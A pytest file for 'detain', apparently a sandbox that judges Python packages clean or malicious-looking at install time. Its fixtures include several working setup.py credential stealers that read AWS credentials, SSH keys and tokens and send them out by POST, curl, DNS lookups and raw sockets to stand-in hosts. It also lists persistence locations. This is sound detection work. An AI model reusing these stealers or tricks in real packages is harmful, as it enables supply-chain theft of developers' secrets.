"""The verdict: clean, suspicious or malicious-looking, and why; `detain package` gates on it.

The rules are checked on hand-written events of every source (audit hook, proxy, outside
tracer). Then, for real: two malicious sdists built here by hand (their setup.py steals
credentials at install time; nothing of them ever runs on the host) must make `detain
package` exit 3 with the credential read at its setup.py line, and a real benign sdist
(six 1.17.0, from the configured index through detain's own fetch) must exit 0, clean.
"""

from __future__ import annotations

import base64
import io
import json
import tarfile
import urllib.request
from pathlib import Path

import pytest

from conftest import detain_cli, require
from detain.package.decoys import HOME, plant
from detain.package.phases import mark_decoy
from detain.report.verdict import CLEAN, MALICIOUS, SUSPICIOUS, line, verdict
from test_package import build_sdist

INDEX = ["pypi.org", "files.pythonhosted.org"]


def hook(event: str, category: str, **detail) -> dict:
    return {"event": event, "category": category, "detail": detail, "file": "setup.py",
            "line": 7, "provenance": "in-process", "severity": "high"}


def kernel(event: str, category: str, **detail) -> dict:
    return {"event": event, "category": category, "detail": detail, "file": None,
            "line": None, "provenance": "kernel/runtime", "severity": "high"}


@pytest.mark.parametrize("event", [
    hook("open", "file-read", path="/scratch/.aws/credentials", mode="r"),
    kernel("kernel.openat", "file-read", target="/home/u/.ssh/id_rsa"),
    hook("os.environ.get", "env", name="AWS_SECRET_ACCESS_KEY"),
    hook("urllib.Request", "network", url="http://collector.exfil.invalid/c", method="POST"),
    hook("socket.getaddrinfo", "network", host="x.dns.exfil.invalid", port="53"),
    hook("socket.connect", "network", address="('127.0.0.1', 4444)"),
    kernel("kernel.connect", "network", target="[2001:db8::1]:443"),
    kernel("proxy.connect", "network", host="evil.example", port=80, allowed=False),
    hook("subprocess.Popen", "process", executable="curl", argv="['curl', 'x']"),
    hook("os.system", "process", command="sh -c 'id'"),
    hook("os.system", "process", command="id > /tmp/.o"),  # a shell's redirection
    kernel("kernel.execve", "process", target="/usr/bin/wget", argv="wget x"),
    hook("open", "file-write", path="/scratch/.bashrc", mode="a"),
    kernel("kernel.rename", "file-write", target="/tmp/x -> /usr/lib/python3/sitecustomize.py"),
    hook("open", "file-write", path="/scratch/.config/systemd/user/x.service", mode="w"),
    kernel("kernel.openat", "file-write", target="/tmp/.pylib/sitecustomize.py"),
])
def test_high_signals_are_malicious_looking(event):
    result = verdict([event], INDEX)
    assert result["level"] == MALICIOUS, result
    assert len(result["reasons"]) == 1
    assert ("(setup.py:7)" in result["reasons"][0]) == (event["provenance"] == "in-process")


@pytest.mark.parametrize("event", [
    hook("open", "file-read", path="/etc/hostname", mode="r"),
    hook("urllib.Request", "network", url="https://pypi.org/simple/six/"),
    hook("socket.connect", "network", address="('127.0.0.1', 3128)"),  # detain's proxy
    kernel("proxy.connect", "network", host="pypi.org", port=443, allowed=True),
    hook("subprocess.Popen", "process", executable="/scratch/venv/bin/python"),
    hook("subprocess.Popen", "process", executable="gcc", argv="['gcc', '-c', 'x.c']"),
    kernel("kernel.execve", "process", target="/usr/bin/git", argv="git describe"),
    kernel("kernel.execve", "process", target="/usr/lib/gcc/x86_64-linux-gnu/12/cc1"),
    kernel("kernel.execve", "process", target="/usr/lib/gcc/x86_64-linux-gnu/12/collect2"),
    hook("open", "file-write", path="build/lib/pkg/__init__.py", mode="w"),
    kernel("kernel.openat", "file-write",
           target="/scratch/tmp/pip-build-env-x/site/sitecustomize.py"),
    kernel("kernel.unlinkat", "file-write", target="/scratch/.bashrc"),
    hook("compile", "code", source="def f(): pass"),
    hook("os.system", "process", command="uname -m"),
])
def test_ordinary_build_work_is_clean(event):
    assert verdict([event], INDEX) == {"level": CLEAN, "reasons": [], "signals": {}}


def test_what_makes_a_run_malicious_looking_is_high_in_the_table_too():
    pth = {**hook("open", "file-write", path="/scratch/venv/site-packages/zzz.pth", mode="w"),
           "severity": "medium"}
    build = {**hook("open", "file-write", path="build/lib/pkg/__init__.py", mode="w"),
             "severity": "medium"}
    assert verdict([pth, build], INDEX)["level"] == MALICIOUS
    assert (pth["severity"], build["severity"]) == ("high", "medium")


def test_suspicious_and_the_reasons_are_few_and_varied():
    native = hook("ctypes.dlopen", "native", library="libc.so.6")
    assert verdict([native])["level"] == SUSPICIOUS
    many = [hook("open", "file-read", path=f"/scratch/.ssh/id_{n}") for n in range(5)] + [
        hook("subprocess.Popen", "process", executable="curl"), native]
    result = verdict(many)
    assert result["level"] == MALICIOUS and len(result["reasons"]) == 3
    assert result["reasons"][1].startswith("process started: curl")  # one per kind first
    assert result["signals"] == {"credentials read": 5, "process started": 1,
                                 "native code": 1}
    assert line(result).startswith("verdict: malicious-looking — credentials read: ")


def test_secret_names_read_by_copying_the_environment_are_the_walk():
    """Walking the environment (a settings scan, a copy) is no signal on its own: the
    values leaving is (egress, the decoys' marker in traffic); a credential's name asked
    for on a line of its own is."""
    walked = hook("os.environ.iter", "env", variables=12)
    copied = hook("os.environ.get", "env", name="AWS_SECRET_ACCESS_KEY")  # same line
    asked = dict(copied, line=9)
    assert verdict([walked, copied])["level"] == CLEAN
    assert copied["severity"] == "medium"  # shown as part of the walk
    assert verdict([walked, asked])["level"] == MALICIOUS and asked["severity"] == "high"
    sent = hook("socket.connect", "network", address="('203.0.113.50', 8080)")
    assert verdict([walked, sent])["level"] == MALICIOUS


def test_run_summary_ends_with_the_verdict():
    require("bwrap")
    done = detain_cli("run", "--backend", "bwrap", "--summary", "-c",
                      "import os\nos.getenv('NPM_TOKEN')\n", timeout=60)
    assert done.returncode == 0, done.stderr.decode()[-2000:]
    last = done.stderr.decode().strip().splitlines()[-1]
    assert last.startswith("detain: verdict: malicious-looking — secret read: environment "
                           "variable NPM_TOKEN (<string>:2)"), last


def test_decoys_are_realistic_marked_and_recognised_when_read_or_sent(tmp_path):
    decoys = plant(tmp_path)
    credentials = (decoys.home / ".aws/credentials").read_text()
    assert credentials.startswith("[default]\naws_access_key_id = AKIA") and \
        decoys.marker in credentials
    for name in (".ssh/id_rsa", ".ssh/id_ed25519", ".netrc", ".pypirc", ".git-credentials",
                 ".docker/config.json", ".config/gcloud/application_default_credentials.json"):
        assert decoys.marker in (decoys.home / name).read_text(), name
    assert decoys.environment()["HOME"] == HOME and all(
        decoys.marker in value for key, value in decoys.env.items()
        if not key.endswith(("REGION", "APPDATA")))
    read = kernel("kernel.openat", "file-read", target=f"{HOME}/.aws/credentials")
    listed = hook("os.listdir", "fd", path=f"{HOME}/.ssh")
    cache = hook("open", "file-write", path=f"{HOME}/.cache/pkg/x", mode="w")
    secret = decoys.env["AWS_SECRET_ACCESS_KEY"].encode()
    sent = [kernel("sinkhole.tcp", "network", host="c.invalid", first_bytes=text)
            for text in (base64.b64encode(b"k=" + secret).decode(), secret.hex(),
                         f"POST /?k={decoys.env['GITHUB_TOKEN']}")]
    curl = kernel("kernel.execve", "process", target="/usr/bin/curl",
                  argv=f"curl -d {credentials!r} x")
    for event in (read, listed, cache, *sent, curl):
        mark_decoy(event, decoys)
    assert (read["decoy"], listed["decoy"], "decoy" in cache) == ("read", "read", False)
    assert [e.get("decoy") for e in (*sent, curl)] == ["sent"] * 4
    result = verdict([read])
    assert result["level"] == MALICIOUS and result["reasons"] == [
        f"decoy credentials read: {HOME}/.aws/credentials (kernel/runtime)"]
    assert verdict(sent[:1])["signals"] == {"decoy credentials sent": 1}


# --- detain package, for real -------------------------------------------------------------

AWS_THIEF = '''import os
import subprocess
import urllib.request
from setuptools import setup
from setuptools.command.install import install


def steal():
    path = os.path.expanduser("~/.aws/credentials")
    try:
        with open(path) as handle:
            data = handle.read()
    except OSError:
        data = os.environ.get("AWS_SECRET_ACCESS_KEY", "none")
    request = urllib.request.Request("http://collector.exfil.invalid/c", data=data.encode(),
                                     method="POST")
    try:
        urllib.request.urlopen(request, timeout=3)
    except Exception:
        pass
    try:
        subprocess.run(["curl", "-s", "-m", "2", "-d", "@" + path,
                        "http://collector.exfil.invalid/"], check=False)
    except OSError:
        pass


steal()


class Install(install):
    def run(self):
        steal()
        install.run(self)


setup(name="awsthief", version="1.0", py_modules=["awsthief"], cmdclass={"install": Install})
'''
DNS_LEAK = '''import base64
import os
import socket
import subprocess
from setuptools import setup


def leak():
    try:
        with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as handle:
            key = handle.read()
    except OSError:
        key = b"no key here"
    label = base64.b32encode(key[:30]).decode().strip("=").lower()
    try:
        socket.gethostbyname(label + ".dns.exfil.invalid")
    except OSError:
        pass
    raw = socket.socket()
    try:
        raw.connect(("127.0.0.1", 4444))
        raw.sendall(key)
    except OSError:
        pass
    finally:
        raw.close()
    try:
        subprocess.run(["curl", "--noproxy", "*", "-s", "-m", "2", "http://198.51.100.7/k"],
                       check=False)
    except OSError:
        pass


leak()
setup(name="dnsleak", version="1.0", py_modules=["dnsleak"])
'''


def needs_index() -> None:
    require("bwrap")
    try:
        urllib.request.urlopen("https://pypi.org/simple/setuptools/", timeout=5).close()
    except OSError as exc:
        pytest.skip(f"the host cannot reach the package index ({exc}); building an sdist "
                    "needs setuptools from it")


def vet(artifact: Path, tmp: Path, *extra: str):
    done = detain_cli("package", "--backend", "bwrap", "--json", str(tmp / "package.json"),
                      *extra, str(artifact), timeout=300)
    assert (tmp / "package.json").exists(), done.stderr.decode()[-3000:]
    report = json.loads((tmp / "package.json").read_text())
    return done, report, [e for p in report["phases"] for e in p["report"]["events"]]


def setup_line(source: str, text: str) -> int:
    return next(n for n, line in enumerate(source.splitlines(), 1) if text in line)


@pytest.mark.slow
def test_credential_thief_fails_the_gate_with_its_setup_py_line(tmp_path):
    needs_index()
    done, report, events = vet(build_sdist(tmp_path, "awsthief", AWS_THIEF), tmp_path,
                               "--report", str(tmp_path / "r.sarif"),
                               "--report", str(tmp_path / "r.html"))
    assert done.returncode == 3, done.stderr.decode()[-3000:]
    assert report["verdict"]["level"] == "malicious-looking"
    reads = [e for e in events if ".aws/credentials" in str(e["detail"].get("path"))
             and e["provenance"] == "in-process"]
    assert reads and {(e["file"], e["line"], e["phase"]) for e in reads} == {
        ("setup.py", setup_line(AWS_THIEF, "open(path)"), "install")}, reads
    assert any(e["event"] == "subprocess.Popen" and "curl" in e["summary"] for e in events)
    assert any("collector.exfil.invalid" in str(e["detail"].get("url")) for e in events)
    assert "decoy credentials read: /home/dev/.aws/credentials (setup.py:" in \
        done.stderr.decode()
    # noise that was in every report: pip itself is not the package's
    assert not any("/scratch/venv/bin/python" in e["summary"] for e in events
                   if e["event"] == "subprocess.Popen")
    sarif = json.loads((tmp_path / "r.sarif").read_text())
    assert sarif["runs"][-1]["invocations"][0]["properties"]["verdict"]["level"] \
        == "malicious-looking"
    assert 'id="verdict"' in (tmp_path / "r.html").read_text()


@pytest.mark.slow
def test_dns_and_raw_socket_leak_fails_the_gate(tmp_path):
    needs_index()
    done, report, events = vet(build_sdist(tmp_path, "dnsleak", DNS_LEAK), tmp_path)
    assert done.returncode == 3, done.stderr.decode()[-3000:]
    assert report["verdict"]["level"] == "malicious-looking"
    install = [e for e in events if e["phase"] == "install" and e["provenance"] == "in-process"]
    key = [e for e in install if "id_rsa" in str(e["detail"].get("path"))]
    assert key and key[0]["line"] == setup_line(DNS_LEAK, "open(os.path") and \
        key[0]["file"] == "setup.py", key
    assert any(e["event"] == "socket.gethostbyname" and "dns.exfil.invalid" in
               str(e["detail"].get("host")) for e in install), install
    assert any(e["event"] == "socket.connect" and "4444" in e["summary"] for e in install)
    assert any(e["event"] == "subprocess.Popen" and "--noproxy" in str(e["detail"])
               for e in install)


@pytest.mark.slow
def test_benign_sdist_is_clean(tmp_path):
    needs_index()
    from detain.package.fetch import _sdist
    from detain.package.index import read_config

    sdist = _sdist("six", "1.17.0", tmp_path, read_config())
    done, report, events = vet(sdist, tmp_path, "--fail-on", "suspicious")
    assert done.returncode == 0, done.stderr.decode()[-3000:]
    assert report["verdict"] == {"level": "clean", "reasons": [], "signals": {}}
    assert not [e for e in events if e["severity"] == "high"
                and e["provenance"] == "in-process"], events
    assert done.stderr.decode().strip().splitlines()[-1] == "detain: verdict: clean"


COND_SETUP = '''import os
from setuptools import setup

CREDENTIALS = os.path.expanduser("~/.aws/credentials")
if os.path.exists(CREDENTIALS):
    with open(CREDENTIALS) as handle:
        STOLEN = handle.read()

setup(name="condthief", version="1.0", py_modules=["condthief"])
'''
COND_MODULE = '''import os
import urllib.request

if os.path.exists(os.path.expanduser("~/.aws/credentials")):
    with open(os.path.expanduser("~/.aws/credentials")) as handle:
        STOLEN = handle.read()
    try:
        urllib.request.urlopen("http://collector.exfil.invalid/k", data=STOLEN.encode(),
                               timeout=3)
    except Exception:
        pass
'''


def sdist(dest: Path, name: str, files: dict[str, str]) -> Path:
    """name-1.0.tar.gz holding `files` and a PKG-INFO."""
    path = dest / f"{name}-1.0.tar.gz"
    files = {"PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n", **files}
    with tarfile.open(path, "w:gz") as archive:
        for member, text in files.items():
            info = tarfile.TarInfo(f"{name}-1.0/{member}")
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
    return path


@pytest.mark.slow
def test_stealer_that_checks_first_finds_the_decoys(tmp_path):
    """`if os.path.exists(~/.aws/credentials)` at setup.py level and at import: the decoy
    HOME makes both read it, each shown at its own line."""
    needs_index()
    done, report, events = vet(sdist(tmp_path, "condthief", {
        "setup.py": COND_SETUP, "condthief.py": COND_MODULE}), tmp_path)
    assert done.returncode == 3, done.stderr.decode()[-3000:]
    assert report["decoys"]["home"] == HOME and "~/.aws/credentials" in \
        report["decoys"]["files"]
    reads = {(e["file"], e["line"], e["phase"]) for e in events
             if e.get("decoy") == "read" and e["provenance"] == "in-process"}
    assert reads == {("setup.py", setup_line(COND_SETUP, "open(CREDENTIALS)"), "install"),
                     ("condthief.py", setup_line(COND_MODULE, "open(os.path"), "import")}, reads
    assert f"decoy credentials read: {HOME}/.aws/credentials (setup.py:" \
        f"{setup_line(COND_SETUP, 'open(CREDENTIALS)')}, install)" in done.stderr.decode()
    if report["phases"][1]["sinkhole"]:  # the POSTed body carries the decoys' marker
        assert any(e.get("decoy") == "sent" and e["phase"] == "import" for e in events), \
            [e["summary"] for e in events if e["phase"] == "import"]


def test_static_malware_indicators_count_in_the_package_verdict():
    """Code that hides until used (a hook pip never runs, a missing dependency) is judged
    by detain's own malware triage too; bandit's injection checks are not verdicts."""
    from detain.package.phases import package_verdict

    scan = {"findings": [
        {"tool": "detain", "rule": "credential-path", "severity": "high", "file": "setup.py",
         "line": 7, "message": "reads the AWS credentials file"},
        {"tool": "bandit", "rule": "B602", "severity": "high", "file": "setup.py", "line": 9,
         "message": "runs a shell command"},
        {"tool": "detain", "rule": "url-literal", "severity": "medium", "file": "pkg.py",
         "line": 1, "message": "a URL"}]}
    judged = package_verdict([], scan)
    assert judged["level"] == "malicious-looking"
    assert judged["reasons"] == ["static: reads the AWS credentials file (setup.py:7)"]
    assert package_verdict([], {"findings": scan["findings"][1:]})["level"] == "clean"


def test_a_record_that_is_not_all_that_happened_is_never_clean():
    """A flood that filled a budget or a cap, a forged or missing record, an absent
    summary: the deed may be what was pushed out, so the verdict says so (suspicious)."""
    flooded = {"complete": False, "flags": [], "dropped": {"os.environ.get": 1101}}
    assert verdict([], INDEX, flooded)["reasons"] == [
        "evidence incomplete: events past the audit hook's budget: os.environ.get"]
    forked = {"complete": False, "flags": [], "dropped": {"forked process 4: open": 3}}
    assert verdict([], INDEX, forked)["level"] == SUSPICIOUS
    traced = {"complete": False, "flags": ["outside trace: 80518 record(s) past the cap"]}
    assert verdict([], INDEX, traced)["level"] == SUSPICIOUS
    imports = {"complete": False, "flags": [], "dropped": {"import": 40, "child compile": 3}}
    assert verdict([], INDEX, imports)["level"] == CLEAN  # hides only more of the same
    assert verdict([], INDEX, {"complete": True, "flags": []})["level"] == CLEAN
    opens = {"complete": False, "flags": [], "dropped": {"child open": 900}}
    assert verdict([], INDEX, opens)["level"] == SUSPICIOUS
    # seen from outside too, where credential and persistence paths have a reserve
    assert verdict([], INDEX, opens, traced=True)["level"] == CLEAN
    harmless = {"complete": False, "flags": [
        "outside trace: 9 record(s) past the tracer's cap of 20000 were counted, not written; "
        "none of them an exec, a connection or a sensitive open"]}
    assert verdict([], INDEX, harmless, traced=True)["level"] == CLEAN


@pytest.mark.parametrize("event", [
    hook("subprocess.Popen", "process", executable="tmp/gcc", argv="['tmp/gcc']"),
    kernel("kernel.execve", "process", target="/scratch/tmp/pip-req-build-x/tmp/uname"),
    kernel("kernel.execve", "process", target="/home/dev/.cache/cc"),
])
def test_a_build_tool_s_name_on_a_dropped_program_is_no_pass(event):
    assert verdict([event], INDEX)["level"] == MALICIOUS


def test_a_program_the_run_wrote_is_no_build_tool_wherever_it_lies():
    """A `gcc` written into the venv's bin (a system-like place) and run is a process
    started."""
    write = kernel("kernel.openat", "file-write", target="/scratch/venv/bin/gcc", pid=7)
    chmod = kernel("kernel.fchmodat", "file-write", target="/scratch/venv/bin/gcc mode 755")
    run = kernel("kernel.execve", "process", target="/scratch/venv/bin/gcc", argv="gcc")
    assert verdict([dict(run)], INDEX)["level"] == CLEAN
    for written in (write, chmod):
        assert verdict([written, dict(run, detail=dict(run["detail"]))],
                       INDEX)["level"] == MALICIOUS


HIDDEN_SETUP = '''
import os, shutil, subprocess, sys
from setuptools import setup
subprocess.run([sys.executable, "-S", "-c", "import os; os.environ.get('AWS_SECRET_ACCESS_KEY')"])
tool = os.path.join(os.path.dirname(sys.executable), "gcc")
shutil.copy("/bin/true", tool)
subprocess.run([tool])
setup(name="hidden", version="1.0", py_modules=[])
'''


@pytest.mark.slow
def test_a_python_outside_the_hook_and_a_dropped_build_tool_are_seen(tmp_path):
    """setup.py starts a Python with -S (no site, so no audit hook: only the outside trace
    sees it) and a `gcc` it wrote into the venv's bin: evidence incomplete, process started."""
    needs_index()
    done, report, events = vet(sdist(tmp_path, "hidden", {"setup.py": HIDDEN_SETUP}),
                               tmp_path)
    assert done.returncode == 3, done.stderr.decode()[-3000:]
    install = report["phases"][0]["report"]
    unhooked = [e for e in events if e["detail"].get("unhooked")]
    assert unhooked and unhooked[0]["severity"] == "high", [e["summary"] for e in events]
    assert any("without detain's audit hook" in f for f in install["integrity"]["flags"])
    reasons = " | ".join(install["verdict"]["reasons"])
    assert "process started: /scratch/venv/bin/gcc" in reasons, reasons


@pytest.mark.parametrize("path", [
    "/home/u/.bashrc", "/home/u/.bash_login", "/home/u/.xinitrc", "/home/u/.xprofile",
    "/home/u/.zshenv", "/home/u/.config/fish/config.fish", "/home/u/.config/autostart/x",
    "/home/u/.config/systemd/user/x.service", "/etc/profile.d/x.sh", "/etc/cron.d/x",
    "/var/spool/cron/crontabs/root", "/etc/systemd/system/x.service", "/etc/rc.local",
    "/etc/ld.so.preload", "/root/.ssh/authorized_keys", "/Users/u/Library/LaunchAgents/x",
    "/v/lib/python3.11/site-packages/x.pth", "/v/site-packages/sitecustomize.py",
    "/usr/lib/python3.11/usercustomize.py", "/tmp/.lib/sitecustomize/__init__.py"])
def test_the_tracer_s_reserve_covers_every_persistence_place(path):
    """The outside tracer keeps writes to PERSISTENCE_MARKS past its cap; whatever the
    verdict calls persistence must be among them, or a flood could push it out."""
    from detain.report.verdict import PERSISTENCE, PERSISTENCE_MARKS

    assert PERSISTENCE.search(path)
    assert any(mark in path for mark in PERSISTENCE_MARKS)


PLACES_SETUP = '''
import importlib, os, subprocess, sys
from setuptools import setup
os.makedirs("/tmp/helper", exist_ok=True)
with open("/tmp/helper/_build_helper.py", "w") as f:
    f.write("import os\\ndef grab():\\n    return os.environ.get('AWS_SECRET_ACCESS_KEY')\\n")
sys.path.insert(0, "/tmp/helper")
importlib.import_module("_build_helper").grab()
os.makedirs("/tmp/fk/pip", exist_ok=True)
with open("/tmp/fk/pip/__main__.py", "w") as f:
    f.write("import os\\nos.environ.get('GITHUB_TOKEN')\\n")
subprocess.run([sys.executable, "-m", "pip"], env={**os.environ, "PYTHONPATH": "/tmp/fk"})
with open(os.path.join(os.path.dirname(sys.executable), "activate"), "a") as f:
    f.write("true\\n")
setup(name="places", version="1.0", py_modules=[])
'''


@pytest.mark.slow
def test_where_code_lies_or_what_argv_says_never_makes_it_detain_s_or_a_dependency_s(tmp_path):
    """A module the package wrote to /tmp and imported is the package's code; a `-m pip`
    found on its own PYTHONPATH is not detain's pip (it runs hooked, and is the package's);
    a write into the install venv detain made is tampering."""
    needs_index()
    done, report, events = vet(sdist(tmp_path, "places", {"setup.py": PLACES_SETUP}),
                               tmp_path)
    assert done.returncode == 3, done.stderr.decode()[-3000:]
    reads = {(e["file"], e["detail"].get("name")) for e in events
             if e.get("decoy") == "read" and e["event"] == "os.environ.get"}
    assert ("/tmp/helper/_build_helper.py", "AWS_SECRET_ACCESS_KEY") in reads, reads
    assert ("/tmp/fk/pip/__main__.py", "GITHUB_TOKEN") in reads, reads
    reasons = " | ".join(report["phases"][0]["report"]["verdict"]["reasons"])
    assert "detain's sandbox tampered with: /scratch/venv/bin/activate" in " | ".join(
        s["text"] for p in report["phases"]
        for s in [{"text": r} for r in p["report"]["verdict"]["reasons"]]) or \
        any(e["detail"].get("tampers") for e in events), reasons
